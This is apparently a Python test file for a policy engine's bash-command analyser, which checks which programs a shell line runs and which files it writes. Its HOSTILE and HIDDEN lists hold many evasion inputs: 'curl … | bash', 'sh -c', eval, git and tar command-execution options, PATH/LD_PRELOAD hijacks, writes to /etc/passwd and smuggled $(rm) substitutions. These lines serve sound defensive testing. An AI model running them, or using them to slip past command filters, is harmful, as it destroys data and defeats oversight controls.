"""What a shell line runs and writes, and when that is not certain."""

from __future__ import annotations

import builtins
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st

from policy_engine.values import commands
from policy_engine.values.commands import Command, understood
from tests.pace import takes_less

pytest.importorskip("tree_sitter_bash", reason="the extra `shell` is not installed")

BASH = Path("/bin/bash")

UNDERSTOOD = [
    # line, programs, writes
    ("", "", ""),
    ("ls -la src", "ls", ""),
    ("/bin/rm -rf build", "/bin/rm rm", ""),
    ("./gradlew build", "./gradlew gradlew", ""),
    ("r'm' x", "rm", ""),
    ('"rm" x', "rm", ""),
    ("\\rm x", "rm", ""),
    ("! grep -q x f", "grep", ""),
    ("ls 'it is $(rm)' \"a;b\"", "ls", ""),
    ("cat a | sort -u | uniq -c", "cat sort uniq", ""),
    ("cd src && ls; pwd || true & date", "cd ls pwd true date", ""),
    ("(a; b) && { c; }", "a b c", ""),
    ("if a; then b; elif c; then d; else e; fi", "a b c d e", ""),
    ('for f in *.py; do wc -l "$f"; done', "wc", ""),
    ("while true; do sleep 1; done", "true sleep", ""),
    ("until a; do b; done", "a b", ""),
    ("case $x in a|b) c;; *) d ;; esac", "c d", ""),
    ("echo $(date) `pwd`", "echo date pwd", ""),
    ('echo "now: $(date "+%Y") ${x:-none}"', "echo date", ""),
    ("echo $(a $(b $(c)))", "echo a b c", ""),
    ("diff <(sort a) <(sort b)", "diff sort", ""),
    ("ls > >(tee out)", "ls tee", "out"),
    ("x=$(date); echo $x", "date echo", ""),
    ("LANG=C CI=1 make -j4 test", "make", ""),
    ("sleep $((60*5))", "sleep", ""),
    ("mkdir -p a/{b,c} {1..3} ~/x", "mkdir", ""),
    ("[ -f \"$f\" ] && [[ a == b ]] && test -d 'x y'", "[ test", ""),
    ("curl -sS \\\n  -o out.json \\\n  https://x.example", "curl", ""),
    ("# list it\nls # all of it\npwd", "ls pwd", ""),
    # redirections
    ("echo x > out", "echo", "out"),
    ("echo x>out", "echo", "out"),
    ("> out", "", "out"),
    ("> out rm x", "rm", "out"),
    (": > out", ":", "out"),
    ("a >> b 2> c", "a", "b c"),
    ("a >| b; a &> c; a &>> d; a >& e", "a", "b c d e"),
    ("a 2>&1 >&2 2>&- < in > /dev/null 2>/dev/stderr", "a", ""),
    ("echo x >> ./a//b/../c", "echo", "a/c"),
    ("echo x > /etc/../tmp/./x", "echo", "/tmp/x"),
    ("echo x > 'a b' 2> \"c\"d\\ e", "echo", ("a b", "cd e")),
    ("exec > log", "exec", "log"),
    ("{ a; b; } > out", "a b", "out"),
    ("echo x | tee -a one two > three", "echo tee", "one two three"),
    ("cd /tmp; echo x > /tmp/y", "cd echo", "/tmp/y"),
    # here-documents
    ("cat > a.py <<'EOF'\nprint('$(rm)')\nEOF\nls", "cat ls", "a.py"),
    ("cat <<'EOF' | wc -l\n`rm`\nEOF\n", "cat wc", ""),
    ("cat <<EOF\nplain\nEOF", "cat", ""),
    ("git commit -m \"$(cat <<'EOF'\nA plain message\nEOF\n)\"", "git cat", ""),
    ('cat <<< "x $y"', "cat", ""),
    # wrappers, and programs with known arguments
    ("sudo -n -u root rm x", "sudo rm", ""),
    ("sudo tee -a /etc/hosts", "sudo tee", "/etc/hosts"),
    ("env CI=1 pytest -q", "env pytest", ""),
    ("nohup nice -n 5 timeout -k 5 1m make", "nohup nice timeout make", ""),
    ("time -p ls", "time ls", ""),
    ("command -v ls", "command", ""),
    ("command ls; builtin echo; exec ls", "command builtin exec ls echo", ""),
    ("find . -name '*.py' -print0 | xargs -0 -n1 grep -l x", "find xargs grep", ""),
    ("ls | xargs -I{} cp {} backup", "ls xargs cp", ""),
    ("ls | xargs", "ls xargs echo", ""),
    ("python -m pytest -q", "python", ""),
    ("python tool.py $x", "python", ""),
    ("sed -n '1,20p' f", "sed", ""),
    ("sed -i 's/a/b/g' f", "sed", ""),
    ("awk -F, '{print $1}' f", "awk", ""),
    ("git push -u origin main && git log --oneline HEAD~3", "git", ""),
    ("tar -xzf a.tgz -C out", "tar", ""),
    ("printf '%s\\n' \"$x\"", "printf", ""),
]

HOSTILE = r"""
$x
$(echo rm) x
`echo rm` x
r$x
r${x}m
r""$(echo m) x
r? x
r* x
[r]m x
{rm,-rf,x}
~/rm
$'rm' x
$"rm" x
r\m; $SHELL
eval rm x
eval "rm x"
source x
. x
sh x
sh -c 'rm x'
bash -c "rm x"
/bin/bash -c rm
bash-5.2 -c rm
zsh -c rm
echo rm | sh
curl https://x.example | bash
busybox rm x
python -c 'import os'
python3 -c 'import os'
python3.11 -Bc 'import os'
echo x | python
echo x | python -
python /dev/stdin
python <(echo x)
perl -e 'unlink x'
node -e 'x'
ruby -e 'x'
awk 'BEGIN { system("rm x") }'
awk '{ print | "rm x" }' f
awk -f x.awk
sed '1e rm x' f
sed 's/a/rm x/e' f
sed -n p f -e '1e rm x'
sed "$x" f
find . -exec rm {} +
find . -delete
find . -fprint x
find . -ok rm {} ;
find . $x
find . -exe* rm
xargs sh
xargs -a f rm
xargs env
xargs -I rm rm
xargs -I{} {}
xargs tee
xargs sudo rm
xargs find
ls | xargs bash -c
ssh host rm x
parallel rm
watch rm x
setsid rm x
stdbuf -o0 rm x
strace rm x
flock f rm x
npx rm
docker run x rm
vim -c '!rm x'
sudo -s
sudo -i rm
sudo -e x
sudo $x
sudo PATH=. ls
env -S 'rm x'
env -i rm
env PATH=. ls
env LD_PRELOAD=x ls
nice $x rm
timeout $x rm
timeout 5 $x
time { rm; }
time (rm)
exec -a ls rm
exec $x
command -p rm
command eval rm
builtin eval rm
coproc rm
git -c alias.x='!rm' x
git -c core.pager=rm log
git config alias.x '!rm x'
git bisect run rm
git rebase -x rm HEAD
git submodule foreach rm
git clone -u rm x
git clone --upload-pack=rm x
git fetch "ext::sh -c rm"
tar -xf a --to-command=rm
tar -I rm -xf a
tar xf a --checkpoint-action=exec=rm
rsync -e rm a b
make SHELL=rm
make --eval='$(shell rm)'
sort --compress-program=rm x
PATH=. ls
LD_PRELOAD=x ls
BASH_ENV=x ls
GIT_SSH_COMMAND=rm git fetch
PYTHONSTARTUP=x python x.py
PATH=.; ls
IFS=x; ls
path=.; ls
LANG=$(rm x) ls; $y
export PATH=.
declare x=1
readonly x=1
unset x
alias ls=rm
trap rm EXIT
set -- rm
shopt -s x
hash -p rm ls
enable -f x y
read PATH
printf -v PATH x
printf -v 'a[$(rm)]' x
test -v 'a[$(rm)]'
[ -v 'a[$(rm)]' ]
[[ -v a ]]
[[ 1 -eq 'a[$(rm)]' ]]
[[ $x -eq 1 ]]
[ $x ]
(( x ))
((rm) ; ls)
let x
echo $((x))
echo $(($(rm)))
echo $((a[$(rm)]))
echo ${!x}
echo ${x@P}
echo ${x:y}
echo ${x:=y}
echo ${x[$(rm)]}
echo ${x:-$(rm)}; $y
x[$(rm)]=1
x=(a b)
for PATH in .; do ls; done
select x in a; do b; done
for ((;;)); do rm; done
ls() { rm; }; ls
function ls { rm; }
ls () ( rm )
!!
!rm
echo "!rm"
echo a!b
^a^b
{ls;}
{ rm;}x
RM x
/bin/RM x
/lib64/ld-linux-x86-64.so.2 /bin/rm
[ -f x ]rm
ls )
ls (
ls "
ls '
ls `
ls \
ls &&
ls | | rm
if ls; then
ls ;; rm
echo a > $x
echo a > *
echo a > ~/x
echo a > {a,b}
echo a > $(rm)
echo a > "$x"
echo a > ../x
echo a > /../x
echo a > a/../../x
echo a > .
echo a > ''
echo a > b c
echo a {fd}> b
echo a2>b
cd /etc; echo a > passwd
(cd /etc && tee passwd)
pushd /etc; echo a > passwd
ls >& -rm x
<& -rm x
a >& \"b
a >& 'b'
ls >&-rm
2>&-1 rm
tee $x
tee *
tee ../x
tee --output-error=x y
tee >(rm)
echo a >& $x
@(rm) x
rm\ x
""
'' x
.
..
if
then rm
"if" x
ls @(a|b)
echo `echo \`rm\``
echo "`echo "rm"`"; $x
echo 5$
""".strip("\n").split("\n")

HOSTILE_LINES = [
    *HOSTILE,
    "ls\x00rm",
    "ls\rrm",
    "ls\x1b[2J",
    "ls\x7f",
    "ls\u0085rm",
    "ls\u2028rm",
    "ls\u00a0rm",
    "ls \u202erm",
    "ls \ud800",
    "r\\\nm x",
    "echo $\\\n(rm)",
    'echo "$\\\n(rm)"',
    "echo a\\\n",
    "cat <<EOF\n$(rm)\nEOF",
    "cat <<EOF\n`rm`\nEOF",
    "cat <<EOF\n$x\nEOF",
    'cat <<"EOF"\n$(rm)\nEOF',
    "cat <<'EOF'\nx\nEOF ",
    "cat <<-'EOF'\n\tx\n\tEOF\nrm x",
    "cat <<'A' <<'B'\nx\nA\nrm\nB",
    "cat <<'EOF' \\\n; rm x\nx\nEOF",
    "bash <<'EOF'\nrm x\nEOF",
    "python <<'EOF'\nx\nEOF",
    "cat <<'EOF' | sh\nrm x\nEOF",
    "cat <<'EOF'\n!rm\nEOF",
    'echo "$(cat <<\'EOF\'\n)"; rm #\nEOF\n)"',
    "echo $(case a in a) rm;; esac)",
    "case a in esac|rm\n) ls;; esac",
    "echo 'a\n^b^c'",
    "awk '{print}\nBEGIN{x()}' f",
    "ls " + "x" * 20_000,
    "echo " + "$(a " * 101 + ")" * 101,
    "(" * 5_000 + "a" + ")" * 5_000,
]

HIDDEN = [
    # lines that hide a program or a file and are understood: what is hidden is listed
    ("ls; rm x", "rm", ""),
    ("ls\nrm x", "rm", ""),
    ("ls & rm x", "rm", ""),
    ("ls # x\nrm x", "rm", ""),
    ("ls 'x\n'; rm x", "rm", ""),
    ('echo "$(rm x)"', "rm", ""),
    ("ls $(< $(rm x))", "rm", ""),
    ('echo "a`rm x`b" > c', "rm", "c"),
    ("cat <(rm x) > >(tee y)", "rm", "y"),
    ("x=`rm x`", "rm", ""),
    ("for x in $(rm x); do ls; done", "rm", ""),
    ("case $(rm x) in a) ls;; esac", "rm", ""),
    ("cat <<< $(rm x)", "rm", ""),
    ("cat <<'EOF' && rm x\nx\nEOF", "rm", ""),
    ("cat <<'EOF'\nx\nEOF\nrm x", "rm", ""),
    ("if ! rm x; then ls; fi > y", "rm", "y"),
    ("( ( rm ) )", "rm", ""),
    ("{ { rm; }; }", "rm", ""),
    ("LANG=C rm x", "rm", ""),
    ("/usr/../bin/rm x", "rm", ""),
    ("sudo nice env CI=1 time rm x", "rm", ""),
    ("ls|tee x|tee y", "tee", "x y"),
    ("<x >y 2>z rm", "rm", "y z"),
    ("git diff $(rm x)", "rm", ""),
    ("echo ${x:-y}$(rm)", "rm", ""),
    ('\\r"m" x', "rm", ""),
]


def names(listed: str | tuple[str, ...]) -> frozenset[str]:
    return frozenset(listed.split() if isinstance(listed, str) else listed)


@pytest.mark.parametrize(
    ("line", "programs", "writes"), [row for row in UNDERSTOOD if row[2] is not None]
)
def test_an_understood_line_lists_exactly_what_it_runs_and_writes(
    line: str, programs: str, writes: str | tuple[str, ...]
) -> None:
    assert understood(line) == Command(names(programs), names(writes))


@pytest.mark.parametrize("line", HOSTILE_LINES)
def test_a_doubtful_line_is_not_understood(line: str) -> None:
    assert understood(line) is None


@pytest.mark.parametrize(
    ("line", "program", "writes"), [row for row in HIDDEN if row[1] is not None]
)
def test_what_a_line_hides_is_listed(line: str, program: str, writes: str) -> None:
    command = understood(line)
    assert command is not None
    assert program in command.programs
    assert names(writes) == command.writes


def test_without_the_parser_nothing_is_understood(monkeypatch: pytest.MonkeyPatch) -> None:
    original = builtins.__import__

    def without(name: str, *rest: object) -> object:
        if name.startswith("tree_sitter"):
            raise ImportError(name)
        return original(name, *rest)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "__import__", without)
    commands._language.cache_clear()
    commands._understood.cache_clear()
    try:
        assert understood("ls") is None
    finally:
        monkeypatch.undo()
        commands._language.cache_clear()
        commands._understood.cache_clear()


@pytest.mark.parametrize(
    "line",
    [
        "a;" * 10_000,
        "a $(b) 'c' \"d $e\" | " * 900 + "a",
        "echo " + "x" * 19_000,
        " " * 19_999 + "x",
        "a=(" * 6_666,
        "<<<" * 6_666,
        "<<a\n" * 5_000,
        "$(" * 10_000,
        "`" * 20_000,
        '"$(' * 6_666,
        "a " + "\\" * 19_998,
        "sed 's/" + "a\\/" * 6_000 + "/x/' f",
    ],
)
def test_a_long_line_takes_no_long_time(line: str) -> None:
    takes_less(1, lambda: understood(line))


PIECES = st.sampled_from(
    [
        *(
            "\n",
            "\\\n",
            "{ ",
            "! ",
            "if ",
            "then ",
            "for x in ",
            "do ",
            "case a in ",
            "a) ",
            "time ",
        ),
        *("<<E\n", "<<'E'\n", "\nE\n", "x=1 ", "[ ", " ]", "[[ ", " ]]", "fi", "done", "esac"),
        *("one", "two", "'one'", '"two"', "&&", "||", ";;", ">>", ">&", "&>", "<<<", "$(", "<("),
        *("$x", "${x}", *"  ab2;&|><()`'\\\"$#}=*~-é"),
    ]
)


@given(st.text() | st.lists(PIECES, max_size=20).map("".join))
@example("\ud800")
@example("é > 'é'")
@settings(deadline=None)
def test_no_text_raises(line: str) -> None:
    assert understood(line) is None or isinstance(understood(line), Command)


WORD = st.sampled_from(
    ["one", "two", "'one two'", '"two"', "$x", '"$(three)"', "`two`", "\\;", "a#b", "'$(one)'"]
)
REDIRECT = st.sampled_from(
    ["", "", " > f", " >> g", " 2> h", " &> i", " >| 'j k'", " 2>&1", " >& l", " > m/../n", " < f"]
)
PROGRAM = st.sampled_from(["true", "echo", "one", "two", "t'wo'", "\\one", '"three"', "tee"])
SIMPLE = st.tuples(PROGRAM, st.lists(WORD, max_size=3), REDIRECT).map(
    lambda parts: " ".join([parts[0], *parts[1]]) + parts[2]
)
LINE = st.recursive(
    SIMPLE,
    lambda inner: st.one_of(
        st.tuples(
            inner, st.sampled_from([";", " && ", " || ", "|", " |& ", "\n", " & ", " \\\n"]), inner
        ).map("".join),
        inner.map(lambda line: f"({line})"),
        inner.map(lambda line: f"{{ {line}; }}"),
        inner.map(lambda line: f"! {line}"),
        inner.map(lambda line: f"echo $({line})"),
        inner.map(lambda line: f'echo "a $({line}) b" > f'),
        inner.map(lambda line: f"echo <({line})"),
        inner.map(lambda line: f"if {line}; then {line}; fi"),
        inner.map(lambda line: f"for x in one two; do {line}; done"),
        inner.map(lambda line: f"case two in one) {line};; *) two; esac"),
        inner.map(lambda line: f"x=$({line}); one $x"),
        inner.map(lambda line: f"{line} # three\n"),
        inner.map(lambda line: f"{line} <<'E'\n$(three) > o\nE\n"),
    ),
    max_leaves=5,
)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """An environment whose programs only log their names; every other name is logged too."""
    if not BASH.exists():
        pytest.skip("there is no /bin/bash")
    folder = tmp_path_factory.mktemp("programs")
    tee = 'for file; do : > "$file"; done'
    for name in ("true", "echo", "one", "two", "three", "tee"):
        program = folder / name
        body = tee if name == "tee" else ":"
        program.write_text(f'#!{BASH}\nprintf "%s\\n" "${{0##*/}}" >> "$LOG"\n{body}\n')
        program.chmod(0o755)
    unknown = '() { printf "%s\\n" "$1" >> "$LOG"; }'
    return {
        "PATH": str(folder),
        "BASH_FUNC_command_not_found_handle%%": unknown,
    }


@given(LINE | st.lists(PIECES, max_size=8).map("".join))
@settings(max_examples=150, deadline=None)
def test_bash_runs_and_writes_nothing_that_is_not_listed(
    place: Mapping[str, str], tmp_path_factory: pytest.TempPathFactory, line: str
) -> None:
    command = understood(line)
    if command is None:
        return
    folder = tmp_path_factory.mktemp("run")
    (folder / "m").mkdir()
    log = tmp_path_factory.mktemp("log") / "log"  # what runs on in the background has its own
    log.write_text("")
    disabled = "enable -n true echo\n"
    subprocess.run(
        [str(BASH), "-c", disabled + line],
        cwd=folder,
        env={**place, "LOG": str(log)},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    assert set(log.read_text().split("\n")) - {""} <= command.programs
    assert {path.name for path in folder.iterdir()} - {"m"} <= command.writes
